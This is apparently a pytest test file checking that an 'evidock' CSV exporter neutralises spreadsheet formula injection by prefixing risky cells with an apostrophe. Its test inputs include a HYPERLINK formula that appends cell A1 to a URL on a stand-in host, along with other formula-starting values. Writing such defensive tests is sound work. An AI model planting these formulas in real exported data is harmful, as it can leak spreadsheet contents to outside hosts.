"""CSV cells can never start a formula: pure, no fixtures."""

from __future__ import annotations

import csv
import io

import pytest

from evidock import spreadsheet


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"],
)
def test_a_cell_that_could_start_a_formula_is_written_as_text(typed: str) -> None:
    text = spreadsheet.csv_text([{"reason": typed, "entry": 7}], ["entry", "reason"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["entry", "reason"]
    assert rows[1] == ["7", "'" + typed], "the apostrophe makes it text; the rest is kept whole"


def test_numbers_and_plain_text_are_kept_and_none_is_empty() -> None:
    text = spreadsheet.csv_text(
        [{"a": -3, "b": 1.5, "c": "复核 = ok", "d": None, "e": True}], ["a", "b", "c", "d", "e"]
    )
    assert text.split("\r\n")[1] == "-3,1.5,复核 = ok,,True"


def test_column_names_go_through_the_same_cell() -> None:
    assert spreadsheet.csv_text([], ["=x", "y"]) == "'=x,y\r\n"
